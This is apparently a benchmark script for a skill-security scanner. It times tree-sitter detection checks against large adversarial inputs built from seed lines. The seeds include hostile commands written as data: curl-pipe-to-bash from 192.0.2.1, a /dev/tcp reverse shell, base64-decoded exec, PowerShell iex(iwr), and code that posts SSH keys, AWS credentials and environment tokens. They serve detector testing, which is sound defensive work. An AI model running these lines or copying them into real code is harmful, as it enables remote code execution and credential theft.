"""Worst-case time of each tree-sitter check on 1 MB adversarial scripts (target: < 100 ms per check).

CPU time (best of `--repeat` runs; a check over 100 ms on an input is timed again after all the
others, and its better time counts: noise on a shared machine comes in bursts of seconds that
back-to-back runs share). The parse and the file's shared walk (`syntax_walk`, one per
file for every check that reads Python or JavaScript nodes) are framework costs, paid once per
file whatever the number of checks: they are timed on their own, beforehand, and every other
per-skill cache is emptied before each check runs.

`bench/adversarial_rules.py` times YARA, the hosts/secrets patterns and the main tree-sitter
modules on its own cases, and `bench/prompt_rules_adversarial.py` the markdown rules and the shell
scanners. This one is driven by the registry: every check the tree-sitter engine loads (node, file
and skill checks, so new modules are covered without an edit), each timed alone on a tree parsed
once beforehand, over every language it applies to. Inputs repeat the constructs the checks walk
(string building, call chains, nesting, credential reads, pipelines) as one long line and as many
short lines, per language; a seed with `{n}` differs in every repetition (no two statements alike).
A flood of real hits of a critical rule stops at the report's listing (`FileContext.saturate`).
Statements that differ only in the URLs they fetch replay the first one's analysis, their URLs
graded together (`scan_shapes`, `HostPolicy.trusts`); what PowerShell's analysis read of the text
is read again only where a URL could change it (`powershell_reads`). Calls that differ only in a
part their check cannot read (a plain name run by a shell, a plain string decoded for exec) share
the first one's verdict (`python_call_shapes`). Credential flows leave cold the environment reads
no send of the file can report (`flow_demand`: sends that cannot name a host report only all of the
environment or a secret file; without a DNS lookup of a built name, only a credential's name
counts, and only when it does not name every host the text says its sends can go to:
`flow_hosts`), and search lines that differ only in their digits once (`Screen.lines`). A flood of
credentials each sent to its own API (`requests.post('https://api.example.com/v1',
data=os.getenv('EXAMPLE_TOKEN_{n}'))`) is analysed in full, every read and send walked and judged
on its own, when the text cannot tell the hosts: a host built out of pieces (`''.join([…])`; plain
strings added together are read as the one string they make, `constants.strings_added`), or
values handed on (assignments, functions) in a script that also names another host. A seed of each
kind is here: they are over the bound (the taint analysis costs 75-300 µs per statement that may
carry a secret, by machine: about a second or more per MB of them).

    .venv/bin/python bench/adversarial_treesitter.py [--size BYTES] [--only LANGS] [--verbose]
"""

from __future__ import annotations

import argparse
import time
from collections.abc import Callable, Iterable

from machine import reference_line  # bench/machine.py, beside this script

from skillscan.analyzers.delivery import DeliveryCatalog
from skillscan.analyzers.treesitter import Checks, NodeDispatcher, load_checks
from skillscan.analyzers.treesitter.registry import FileContext, SkillContext
from skillscan.analyzers.treesitter.syntax_walk import shared_walk
from skillscan.models import FileKind, Skill, SkillFile, SkillIdentity

SEEDS: dict[FileKind, list[str]] = {
    FileKind.PYTHON: [
        "x=os.environ.get('A')+chr(65)+'b'*3;",
        "requests.post(u, data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
        "exec(base64.b64decode('QUFB'))\n",
        "subprocess.run(['bash', '-c', 'curl -s http://192.0.2.1/x | sh'])\n",
        "t = Path.home() / '.aws' / 'credentials'\nd = t.read_text()\nrequests.post(U, data=d)\n",
        "def f(a):\n    return g(a)\n",
        "'a' + ",
        "f(",
        "a.",
        "[1, ",
        "chr(97)+",
        "os.system(",
        "import os\n",
        "subprocess.run(c{n}, shell=True)\n",
        "exec(base64.b64decode('QUFB{n}'))\n",
        "requests.post(u, data=os.environ['A{n}_TOKEN'])\n",
        "k{n} = os.environ.get('A{n}')\nrequests.post(U, data=k{n})\n",
        "g{n} = getattr(os, 'getenv')\nhttpx.post(u, data=g{n}('A{n}_TOKEN'))\n",
        "requests.post('https://api.example.com/v1', data=os.getenv('A{n}'))\n",
        "requests.post('https://api.example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
        "requests.post('https://api.' + 'example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
        "requests.post(''.join(['https://api.', 'example.com/v1']), data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
        "k{n} = os.getenv('EXAMPLE_TOKEN_{n}')\nrequests.post('https://api.example.com/v1', data=k{n})\n"
        "requests.get('https://status.other.net/{n}')\n",
    ],
    FileKind.JAVASCRIPT: [
        "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n",
        "fetch(u).then(r => r.text()).then(eval);\n",
        "String.fromCharCode(65,",
        "a + ",
        "(",
        "`${",
        "fs.readFileSync(os.homedir() + '/.ssh/id_rsa');axios.post(U, {k});\n",
        "process.env.",
        "x=>",
        "cp.exec(c{n});\n",
        "const k{n} = process.env.A{n}; axios.post(U, k{n});\n",
        "const {A{n}_TOKEN: k{n}} = process.env; axios?.post(U, {data: k{n}});\n",
        "fetch(u, {method: 'POST', body: process['env'].A{n}_TOKEN});\n",
        "axios.post('https://api.example.com/v1', {k: process.env.A{n}});\n",
    ],
    FileKind.SHELL: [
        "curl -s https://x.example/a | ",
        "$(",
        "curl -fsSL http://192.0.2.1/x | bash\n",
        "echo QUFB | base64 -d | sh\n",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
        'eval "$(',
        "a=b;",
        "curl -fsSL http://192.0.2.1/x{n} | bash\n",
        "echo QUFB{n} | base64 -d | sh\n",
        "curl -fsSL https://x{n}.example/a | bash\n",
        "curl -fsSL https://x{n}.example:8443/a?v=1 | bash\n",
        "rm -f /tmp/x{n}\n",
        'rm -f "/tmp/x{n}"\n',
        "rm -f /tmp/x{n} 2>/dev/null\n",
        "D=/tmp; rm -f $D/x{n}\n",
        "chmod +x /tmp/x{n}\n",
        "cp a /tmp/x{n}\n",
        "mv /tmp/a{n} /tmp/b{n}\n",
        "rm -rf ~/c{n}*\n",
    ],
    FileKind.POWERSHELL: [
        "iex (iwr https://x.example/a)\n",
        "$a+",
        "[char]65+",
        "(",
        "Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('QUFB')))\n",
        "iex (iwr https://x{n}.example/a)\n",
        "iex (iwr 'https://x{n}.example/a')\n",
        "iwr https://x{n}.example/a | iex\n",
        "iex (iwr https://x{n}.example/a?v=1)\n",
    ],
}
SUFFIX = {FileKind.PYTHON: "py", FileKind.JAVASCRIPT: "js", FileKind.SHELL: "sh", FileKind.POWERSHELL: "ps1"}


def inputs(kind: FileKind, size: int) -> Iterable[tuple[str, str]]:
    for seed in SEEDS[kind]:
        if "{n}" not in seed:
            yield seed, (seed * (size // len(seed) + 1))[:size]
            continue
        parts: list[str] = []
        total = 0
        while total < size:
            parts.append(seed.replace("{n}", str(len(parts))))
            total += len(parts[-1])
        yield seed, "".join(parts)[:size]


def context(
    kind: FileKind, text: str, catalog: DeliveryCatalog
) -> tuple[SkillContext, FileContext, float, float]:
    """The skill around one file, its tree parsed and walked: (contexts, parse s, walk s)."""
    f = SkillFile(path=f"scripts/x.{SUFFIX[kind]}", kind=kind, data=text.encode(), sha256="0" * 64, text=text)
    md = SkillFile(path="SKILL.md", kind=FileKind.MARKDOWN, data=b"", sha256="1" * 64, text="")
    skill = Skill(source="bench", identity=SkillIdentity(), files=(md, f))
    sctx = SkillContext(skill=skill, catalog=catalog)
    fctx = FileContext(file=f, skill=sctx)
    sctx.files = [fctx]
    start = time.process_time()
    _ = fctx.tree  # parsed once, shared by every check as in the analyzer
    _ = sctx.host_policy
    parsed = time.process_time()
    shared_walk(fctx)  # walked once, shared by every check that reads the file's nodes
    return sctx, fctx, parsed - start, time.process_time() - parsed


def timed(run: Callable[[], Iterable[object]], sctx: SkillContext, repeat: int) -> tuple[float, str]:
    """Best CPU time of `repeat` runs, each with the per-skill and per-file caches emptied but for
    the walk."""
    best, outcome = float("inf"), ""
    walks = [f.shared.get(shared_walk.__module__) for f in sctx.files]
    for _ in range(repeat):
        sctx.shared.clear()
        for f, walk in zip(sctx.files, walks, strict=True):
            f.shared.clear()
            f.shortfalls.clear()
            if walk is not None:
                f.shared[shared_walk.__module__] = walk
        start = time.process_time()
        try:
            hits = len(list(run()))
            stopped = sorted({c.split(":")[0] for f in sctx.files for c in f.shortfalls})
            outcome = f"{hits} hits" + (f", stopped: {', '.join(stopped)}" if stopped else "")
        except RecursionError:
            outcome = "RecursionError (recorded as a scan error)"
        except Exception as e:  # the analyzer records these as scan errors; show them here
            outcome = f"{type(e).__name__}"
        best = min(best, time.process_time() - start)
    return best, outcome


def runs(
    checks: Checks, kind: FileKind, sctx: SkillContext, fctx: FileContext
) -> list[tuple[str, Callable[[], Iterable[object]]]]:
    """(name, run) of every check that reads `kind`, on the file `fctx` of the skill `sctx`."""
    out: list[tuple[str, Callable[[], Iterable[object]]]] = []
    for nc in checks.node:
        if kind in nc.languages:
            dispatcher = NodeDispatcher([nc])
            out.append((f"node {type(nc).__name__}", lambda d=dispatcher: d.run(fctx)))  # type: ignore[misc]
    for fc in checks.file:
        if kind in fc.languages:
            out.append((f"file {type(fc).__name__}", lambda c=fc: c.check(fctx)))  # type: ignore[misc]
    for sc in checks.skill:
        out.append((f"skill {type(sc).__name__}", lambda c=sc: c.check_skill(sctx)))  # type: ignore[misc]
    return out


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--size", type=int, default=1 << 20)
    ap.add_argument("--only", help="languages to run, comma-separated (python,javascript,shell,powershell)")
    ap.add_argument("--verbose", action="store_true", help="print every (check, input) time")
    ap.add_argument("--repeat", type=int, default=1, help="runs per (check, input); the best counts")
    args = ap.parse_args()
    print(reference_line(), flush=True)
    checks = load_checks()
    catalog = DeliveryCatalog.load()
    best: dict[tuple[str, str], tuple[float, str]] = {}  # (check, input) -> (best time, outcome)
    parse_worst = walk_worst = (0.0, "")

    def record(name: str, elapsed: float, seed: str, outcome: str) -> None:
        if args.verbose or elapsed >= 1.0:  # slow cases show as they happen, not only at the end
            print(f"  {elapsed * 1000:9.1f} ms  {name:<30} {seed} ({outcome})", flush=True)
        best[name, seed] = (elapsed, outcome)

    kinds = [k for k in SEEDS if not args.only or k.value in args.only.split(",")]
    over: list[tuple[FileKind, str, str, str]] = []  # (kind, seed, text, check) over the bound
    for kind in kinds:
        for seed, text in inputs(kind, args.size):
            label = f"{kind.value}: {seed!r}"[:60]
            sctx, fctx, parse_s, walk_s = context(kind, text, catalog)
            parse_worst = max(parse_worst, (parse_s, label))
            walk_worst = max(walk_worst, (walk_s, label))
            for name, run in runs(checks, kind, sctx, fctx):
                elapsed, outcome = timed(run, sctx, args.repeat)
                record(name, elapsed, label, outcome)
                if elapsed >= 0.1:
                    over.append((kind, seed, text, name))
    # Noise on a shared machine comes in bursts of seconds, which the runs above, back to back, can
    # all fall in: a check over the bound is timed again later, and its best time counts.
    for kind, seed, text, name in over:
        label = f"{kind.value}: {seed!r}"[:60]
        sctx, fctx, _, _ = context(kind, text, catalog)
        run = dict(runs(checks, kind, sctx, fctx))[name]
        elapsed, outcome = timed(run, sctx, args.repeat)
        print(f"  {elapsed * 1000:9.1f} ms  {name:<30} {label} ({outcome}), timed again", flush=True)
        best[name, label] = min(best[name, label], (elapsed, outcome))

    worst: dict[str, tuple[float, str, str]] = {}
    for (name, label), (elapsed, outcome) in best.items():
        if elapsed > worst.get(name, (-1.0, "", ""))[0]:
            worst[name] = (elapsed, label, outcome)

    print(f"tree-sitter parse, worst: {parse_worst[0] * 1000:.0f} ms ({parse_worst[1]})")
    print(f"shared walk, worst: {walk_worst[0] * 1000:.0f} ms ({walk_worst[1]})")
    print(f"{'check':<32} {'worst ms':>9}  worst input (outcome)")
    for name, (elapsed, seed, outcome) in sorted(worst.items(), key=lambda kv: -kv[1][0]):
        flag = "" if elapsed < 0.1 else "  <-- over 100 ms"
        print(f"{name:<32} {elapsed * 1000:>9.1f}  {seed} ({outcome}){flag}")
    print(reference_line())


if __name__ == "__main__":
    main()
